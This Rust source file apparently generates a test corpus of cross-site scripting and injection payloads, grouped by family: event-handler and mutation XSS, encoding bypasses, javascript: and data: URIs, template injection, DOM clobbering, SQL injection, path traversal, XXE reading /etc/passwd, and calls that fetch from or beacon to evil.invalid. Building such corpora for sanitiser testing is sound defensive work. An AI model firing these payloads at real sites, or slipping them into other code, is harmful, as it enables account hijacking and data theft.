//! What people try to slip into pages, made by families.
//!
//! The families are those of public collections: OWASP's XSS Filter Evasion Cheat Sheet, `PortSwigger`'s cross-site
//! scripting cheat sheet, the HTML5 Security Cheatsheet (html5sec.org), `PayloadsAllTheThings` (XSS, template injection),
//! the research on mutation XSS around `DOMPurify`, and the Big List of Naughty Strings. The payloads themselves are put
//! together here from the elements, events, encodings and schemes that HTML knows; no list is copied.

use std::collections::BTreeSet;

/// Ways out of where a text may stand.
const WAYS_OUT: [&str; 13] = [
    "",
    "\">",
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</option></select>",
    "</noscript>",
    "</pre></div></li></ol>",
    "\" autofocus x=\"",
];

/// Elements with an event that comes by itself, or by the slightest touch.
const ELEMENTS: [&str; 38] = [
    "<img src=x onerror=\"JS\">",
    "<image src=x onerror=\"JS\">",
    "<svg onload=\"JS\">",
    "<svg><animate onbegin=\"JS\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"JS\" attributeName=x>",
    "<svg><a xlink:href=\"javascript:JS\"><text x=20 y=20>x</text></a>",
    "<svg><script>JS</script></svg>",
    "<svg/onload=\"JS\"//",
    "<body onload=\"JS\">",
    "<body onpageshow=\"JS\">",
    "<frameset onload=\"JS\">",
    "<video><source onerror=\"JS\"></video>",
    "<video src=x onerror=\"JS\"></video>",
    "<audio src=x onerror=\"JS\"></audio>",
    "<details open ontoggle=\"JS\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"JS\">",
    "<select autofocus onfocus=\"JS\"></select>",
    "<textarea autofocus onfocus=\"JS\"></textarea>",
    "<button autofocus onfocus=\"JS\">x</button>",
    "<xss id=x tabindex=1 autofocus onfocus=\"JS\">",
    "<a href=\"javascript:JS\" autofocus onfocus=\"JS\">x</a>",
    "<div onpointerover=\"JS\" style=\"position:fixed;inset:0\">x</div>",
    "<div contenteditable onbeforeinput=\"JS\">x</div>",
    "<div style=\"animation:x 1s\" onanimationstart=\"JS\">x</div>",
    "<marquee onstart=\"JS\">x</marquee>",
    "<iframe onload=\"JS\"></iframe>",
    "<iframe src=\"javascript:JS\"></iframe>",
    "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
    "<object data=x onerror=\"JS\"></object>",
    "<object data=\"javascript:JS\"></object>",
    "<embed src=\"javascript:JS\">",
    "<link rel=stylesheet href=x onerror=\"JS\">",
    "<style onload=\"JS\"></style>",
    "<script>JS</script>",
    "<script src=x onerror=\"JS\"></script>",
    "<form action=\"javascript:JS\"><input type=submit autofocus></form>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:JS\">x",
    "<picture><source srcset=x><img onerror=\"JS\" src=x></picture>",
];

/// What is to be run.
const CODE: [&str; 11] = [
    "alert(1)",
    "confirm(1)",
    "prompt(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "(0,eval)('alert(1)')",
    "fetch('https://evil.invalid/')",
    "import('https://evil.invalid/x.js')",
    "new Image().src='https://evil.invalid/'",
    "location='https://evil.invalid/'",
    "document.body.innerHTML='<img src=x onerror=alert(1)>'",
];

/// `<script>alert(1)</script>` and `<img>`, written otherwise.
const WRITTEN_OTHERWISE: [&str; 28] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#0000060script&#0000062alert(1)&#0000060/script&#0000062",
    "&LT;script&GT;alert(1)&LT;/script&GT;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\74script\\76alert(1)\\74/script\\76",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{feff}<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script\t>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img\u{c}src=x\u{c}onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<img src=x:x onerror=\u{2028}alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
];

/// Addresses that are none of the web, or that look like one.
const ADDRESSES: [&str; 40] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript\t:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://evil.invalid/%0aalert(1)",
    "javascript:/*--></title></style></textarea>*/alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/javascript,alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.invalid/1",
    "filesystem:https://evil.invalid/1",
    "file:///etc/passwd",
    "ftp://evil.invalid/x",
    "about:blank#<script>alert(1)</script>",
    "jar:https://evil.invalid!/x",
    "intent://evil.invalid#Intent;scheme=https;end",
    "ms-msdt:/id PCWDiagnostic",
    "tel:+1\" onclick=\"alert(1)",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
    "/\\evil.invalid/x",
    "https://evil.invalid/\" onmouseover=\"alert(1)",
    "https://evil.invalid/'onmouseover='alert(1)",
    "https://evil.invalid/><script>alert(1)</script>",
    "https://good.invalid@evil.invalid/",
    "https://evil.invalid/#javascript:alert(1)",
    "http://[::1]:1/<img src=x onerror=alert(1)>",
];

/// What would fetch something, or lead away, without any script.
const FETCHES: [&str; 34] = [
    "<img src=https://evil.invalid/1>",
    "<img srcset=\"https://evil.invalid/2 2x\">",
    "<img lowsrc=https://evil.invalid/3 src=x>",
    "<input type=image src=https://evil.invalid/4>",
    "<video poster=https://evil.invalid/5></video>",
    "<audio src=https://evil.invalid/6 autoplay></audio>",
    "<svg><image href=https://evil.invalid/7 /></svg>",
    "<svg><use href=https://evil.invalid/8#x /></svg>",
    "<svg><filter><feImage href=https://evil.invalid/9 /></filter></svg>",
    "<iframe src=https://evil.invalid/10></iframe>",
    "<object data=https://evil.invalid/11></object>",
    "<embed src=https://evil.invalid/12>",
    "<script src=https://evil.invalid/13></script>",
    "<script src=//evil.invalid/14",
    "<link rel=stylesheet href=https://evil.invalid/15>",
    "<link rel=prefetch href=https://evil.invalid/16>",
    "<link rel=dns-prefetch href=//evil.invalid/17>",
    "<link rel=manifest href=https://evil.invalid/18>",
    "<link rel=icon href=https://evil.invalid/19>",
    "<base href=https://evil.invalid/20/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.invalid/21\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<meta charset=UTF-7>",
    "<style>@import 'https://evil.invalid/25'</style>",
    "<style>*{background:url(https://evil.invalid/26)}</style>",
    "<style>input[value^=a]{background:url(https://evil.invalid/27)}</style>",
    "<div style=\"background:url(https://evil.invalid/28)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<table background=https://evil.invalid/30>",
    "<body background=https://evil.invalid/31>",
    "<a ping=https://evil.invalid/32 href=#x>x</a>",
    "<form action=https://evil.invalid/33><input autofocus></form>",
    "<img src='https://evil.invalid/34?",
];

/// Markup that a parser turns into other markup when it is read a second time.
const MUTATIONS: [&str; 22] = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<style><style/><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "<table><td><a href=\"</table><img src=x onerror=alert(1)>\">",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></foreignObject></svg>",
    "<a id=x><img src=x onerror=alert(1)><p></a>",
    "</br><img src=x onerror=alert(1)></p>",
];

/// For templates, and for scripts that look elements up by their names.
const TEMPLATES_AND_NAMES: [&str; 20] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "${alert(1)}",
    "#{7*7}",
    "<%= alert(1) %>",
    "{% include '/etc/passwd' %}",
    "[[${7*7}]]",
    "*{7*7}",
    "@(7*7)",
    "{agent}{user}{bot}",
    "`${alert(1)}`",
    "';alert(1);//",
    "\";alert(1);//",
    "</script><script>alert(1)//",
    "__proto__",
    "<form id=inbox><input name=dataset></form>",
    "<img name=body><img name=cookie>",
    "<a id=write></a><a id=write name=value href=x></a>",
    "<input name=action form=x><form name=location>",
    "<div class=\"banner turn\" data-key=0 data-picture=https://evil.invalid/>",
];

/// What is no attack and breaks pages all the same.
const ODD: [&str; 20] = [
    "\u{202e}evil\u{202c} exe.gnp",
    "\u{2066}\u{2067}\u{2068}x",
    "\u{200b}\u{200c}\u{200d}\u{2060}x",
    "\u{feff}x",
    "x\u{2028}y\u{2029}z",
    "Z\u{311}\u{312}\u{313}\u{314}\u{310}a\u{311}\u{312}\u{313}l\u{35c}\u{35d}go",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}\u{1f1e7}\u{1f1ea}\u{1f3f4}",
    "\u{fdfa}\u{fdfa}\u{fdfa}",
    "\u{627}\u{644}\u{633}\u{644}\u{627}\u{645} <b>x</b>",
    "\u{fffe}\u{ffff}x",
    "\u{e0001}\u{e0041}x",
    "\u{7f}\u{80}\u{9b}31mx",
    "\u{1b}[31mx\u{7}",
    "a\u{0}b",
    "' OR 1=1 --",
    "\"; DROP TABLE messages; --",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=y",
    "NaN undefined null true 1e309",
];

/// All of them, each once, always in the same order.
pub fn payloads() -> Vec<String> {
    let made = ELEMENTS.iter().enumerate().flat_map(|(at, element)| {
        CODE.iter().enumerate().map(move |(code_at, code)| {
            let way_out = WAYS_OUT[(at + code_at) % WAYS_OUT.len()];
            format!("{way_out}{}", element.replace("JS", code))
        })
    });
    let families: [&[&str]; 6] = [
        &WRITTEN_OTHERWISE,
        &ADDRESSES,
        &FETCHES,
        &MUTATIONS,
        &TEMPLATES_AND_NAMES,
        &ODD,
    ];
    let long = ["W".repeat(2000), "<b>".repeat(600), "&amp;".repeat(400)];
    let fixed = families.into_iter().flatten().map(|one| (*one).to_owned());
    let all: Vec<_> = fixed.chain(long).chain(made).collect();
    let distinct: BTreeSet<_> = all.iter().collect();
    assert_eq!(distinct.len(), all.len(), "each once");
    all
}
